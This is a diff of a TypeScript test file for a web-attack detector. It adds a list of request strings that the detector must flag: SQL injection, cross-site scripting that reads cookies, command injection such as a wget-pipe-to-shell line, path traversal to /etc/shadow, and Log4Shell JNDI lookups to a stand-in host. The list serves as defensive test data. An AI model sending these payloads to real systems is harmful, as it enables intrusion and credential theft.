@@ -1,7 +1,7 @@
 import { describe, expect, test } from "bun:test";
 import type { Observation } from "../engine/events.ts";
-import { matchWebAttacks, normalizeRequestText } from "./http-attack-rules.ts";
-import { createHttpAttackDetector, requestParts } from "./http-attack.ts";
+import { matchWebAttacks, mayMatchWebAttack, normalizeRequestText, WEB_ATTACK_RULES } from "./http-attack-rules.ts";
+import { createHttpAttackDetector, requestLineLength, requestLineOf, requestParts } from "./http-attack.ts";
 import { fixture, flow, meta } from "./testing.ts";
 
 const kinds = (raw: string) => matchWebAttacks(normalizeRequestText(raw)).map((m) => m.kind);
@@ -12,7 +12,55 @@ const request = (uri: string, userAgent = "curl/8.5.0", flowId = "7"): Observati
 });
 const bytes = (s: string) => new Uint8Array([...s].map((c) => c.charCodeAt(0)));
 
+/** Request texts a rule matches, one or more per rule (each test below checks them). */
+const ATTACKS = [
+  "/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit",
+  "/item.php?id=1'%20OR%20'a'%3D'a", "/p?id=1%2527%20UNION%2F**%2FSELECT%20password%20FROM%20users", "/login?u=admin'--%20",
+  "/search?q=1;WAITFOR%20DELAY%20'0:0:5'", "/DVWA-master/vulnerabilities/xss_d/?default=English%3Cscript%3Ealert(1)%3C/script%3E",
+  "/c?x=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", "/0hXC6ZUE.pl|dir", "/cgi-bin/ping?host=127.0.0.1;cat%20/etc/issue",
+  "/x.php?cmd=%24(id)", "/../../../../../../../../../../../../etc/shadow", "/static/..%2f..%2f..%2fwindows/win.ini",
+  "/?q=${jndi:ldap://evil.example/a}", "/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x.example/a}",
+  "/a?id=1 union select 1", "/a?id=1' or 1=1", "/a?x=sleep(5)", "/a?x=extractvalue(1,2)", "/a?x=information_schema.tables",
+  "/a?x=1;drop table users", "/a?x=<script>", "/a?x=<a onclick=x>", "/a?u=javascript:x", "/a?x=<iframe src=x>",
+  "/a?x=document.cookie", "/a?x=;cat /etc/passwd", "/bin/sh", "/a?x=cmd /c dir", "/a?x=powershell -enc", "/a?x=system(1)",
+  "/a?x=<?php", "/a?x=O:8:\"stdClass\":0:{}", "/a?x=wget http://x/y|sh", "() { :; }; echo", "/a/../../b", "/a?f=/etc/passwd",
+  "/a?f=boot.ini", "/a?f=/proc/self/environ", "/a?x=jndi:ldap://x/", "/A?ID=1 UNION SELECT 1", "/a?x=UN/**/ION SELECT",
+  "/a?x=un\0ion select 1", "/a?x=WIN.INİ",
+];
+
 describe("web attack rules", () => {
+  test("the trigger test passes every text a rule matches (whole, in parts, and upper-cased)", () => {
+    const texts = ATTACKS.flatMap((a) => [a, `GET ${a} HTTP/1.1`, a.toUpperCase(), ...a.split(/[?&=]/)]);
+    const matchedRules = new Set<string>();
+    for (const t of texts) {
+      const normalized = normalizeRequestText(t);
+      for (const r of WEB_ATTACK_RULES) {
+        if (!r.re.test(normalized)) continue;
+        matchedRules.add(r.name);
+        expect(mayMatchWebAttack(t)).toBe(true);
+      }
+    }
+    // Every rule is among the matches above.
+    expect(WEB_ATTACK_RULES.filter((r) => !matchedRules.has(r.name)).map((r) => r.name)).toEqual([]);
+    // Plain request lines and header values pass no rule and trip no trigger.
+    for (const t of ["GET /index.html HTTP/1.1", "GET /static/app.3f9a2c.js HTTP/1.1", "Mozilla/5.0", "text/html", "/watch?v=dQw4w9WgXcQ"]) {
+      expect(mayMatchWebAttack(t)).toBe(false);
+    }
+  });
+
+  test("the request line is found on the bytes as the text test finds it", () => {
+    for (const line of [
+      "GET / HTTP/1.1\r\n", "GET /x HTTP/1.0", "POST /a?b=c HTTP/2\r\nHost: x\r\n", "GET  / HTTP/1.1\r\n", "GET /\tx HTTP/1.1\r\n",
+      "GET /x\u00a0y HTTP/1.1\r\n", "GET /x HTTP/\r\n", "GET /x HTTP/x", "GET /x\r\n HTTP/1.1", "GETTING /x HTTP/1.1", "get /x HTTP/1.1",
+      "OPTIONS * HTTP/1.1\r\n", "GET /x HTTPS/1.1", "GET /x HTTP/1", "GET", "TOOLONGMETHOD / HTTP/1.1", "GET /x http/1.1",
+    ]) {
+      const b = bytes(line);
+      const text = requestLineOf(b);
+      const n = requestLineLength(b);
+      expect(n < 0 ? null : line.slice(0, n)).toBe(text);
+    }
+  });
+
   test.each([
     ["/dv/vulnerabilities/sqli/?id=1%27+and+1%3D1+union+select+database%28%29%2C+user%28%29%23&Submit=Submit", "sql_injection"],
     ["/item.php?id=1'%20OR%20'a'%3D'a", "sql_injection"],
